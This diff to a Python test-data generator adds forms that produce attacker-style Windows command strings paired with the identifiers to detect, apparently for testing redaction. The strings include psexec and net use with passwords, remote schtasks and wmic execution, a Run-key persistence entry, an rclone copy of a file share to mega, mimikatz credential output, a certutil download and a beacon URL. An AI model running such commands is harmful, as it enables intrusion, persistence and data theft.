@@ -22,6 +22,19 @@ def address(v, rng):
     return rng.choice(list(v.network.hosts())[:12])
 
 
+def private(rng):
+    return rng.choice([f"10.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}", f"172.{rng.randrange(16, 32)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}",
+                       f"192.168.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}"])
+
+
+def machine(rng):
+    return "S-1-5-21-" + "-".join(str(rng.randrange(10**8, 4 * 10**9)) for _ in range(3)) + f"-{rng.randrange(1000, 9999)}"
+
+
+def secret(rng):
+    return "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") + rng.choice("abcdefghijkmnopqrstuvwxyz") + str(rng.randrange(10)) for _ in range(3)) + "!"
+
+
 FORMS = {}
 
 
@@ -349,3 +362,67 @@ def related_romaji(v, rng): return v.related_domain.split(".")[0]
 def secret_url(v, rng): return f"ftp://{v.people[0].last}:Kp9!zz{v.roman}@ftp.{v.related_domain}/"
 @form("other")
 def secret_header(v, rng): return "Authorization: Basic " + b64(f"{v.people[0].last}:{v.roman}Pass1!")
+
+
+# ---- commands: what is inside goes, the command stays; the needles are told beside the text -----------------------
+def command(function):
+    @form("command")
+    def told(v, rng):
+        return function(v, rng)
+    FORMS["command-" + function.__name__.replace("_", "-")] = FORMS.pop("told")
+    return function
+
+
+@command
+def psexec(v, rng):
+    host, word = private(rng), secret(rng)
+    return f"psexec.exe \\\\{host} -u {v.ad}\\{v.people[0].last} -p {word} cmd /c whoami", [host, word, v.ad]
+@command
+def net_use(v, rng):
+    host, word = private(rng), secret(rng)
+    return f"net use Z: \\\\{host}\\c$ {word} /user:{v.ad}\\svc_bk", [host, word]
+@command
+def admin_share(v, rng):
+    host = private(rng)
+    return f"cmd /c copy C:\\ProgramData\\w.exe \\\\{host}\\ADMIN$\\Temp\\w.exe", [host]
+@command
+def task_remote(v, rng):
+    host = f"{v.abbreviation}-SRV{rng.randrange(10, 99)}"
+    return f"schtasks /create /s {host} /tn Updater /tr C:\\Windows\\Temp\\a.exe /sc onstart", [host]
+@command
+def wmi(v, rng):
+    host = private(rng)
+    return f"wmic /node:{host} process call create \"rundll32 C:\\Windows\\Temp\\a.dll,Start\"", [host]
+@command
+def registry_user(v, rng):
+    sid = machine(rng)
+    return f"reg add HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\a.exe", [sid]
+@command
+def tasklist(v, rng):
+    host, word = private(rng), secret(rng)
+    return f"tasklist /S {host} /U {v.ad}\\{v.people[1].last} /P {word}", [host, word]
+@command
+def rclone(v, rng):
+    return f"rclone copy \\\\{v.abbreviation}-FS01\\設計 mega:out --transfers 8", [f"{v.abbreviation}-FS01"]
+@command
+def mimikatz(v, rng):
+    digest = f"{rng.randrange(1 << 127, 1 << 128):032x}"
+    return f"Username : {v.people[0].last} Domain : {v.ad} NTLM : {digest}", [v.ad, digest]
+@command
+def powershell_session(v, rng):
+    return f"powershell Enter-PSSession -ComputerName {v.abbreviation.lower()}-dc01.{v.ad_dns}", [v.ad_dns]
+@command
+def portproxy(v, rng):
+    host = private(rng)
+    return f"netsh interface portproxy add v4tov4 listenport=8443 connectaddress={host} connectport=3389", [host]
+@command
+def certutil_inside(v, rng):
+    host = private(rng)
+    return f"certutil -urlcache -f http://{host}:8080/x.exe x.exe", [host]
+@command
+def url_beacon(v, rng):
+    host = private(rng)
+    return f"http://stat-collect.top/g.php?ip={host}&pc={v.abbreviation}-PC0{rng.randrange(100, 999)}", [host, f"{v.abbreviation}-PC0"]
+@command
+def profile_path(v, rng):
+    return f"C:\\Users\\{v.people[1].first}.{v.people[1].last}\\AppData\\Roaming\\svc\\upd.exe", [f"{v.people[1].first}.{v.people[1].last}"]
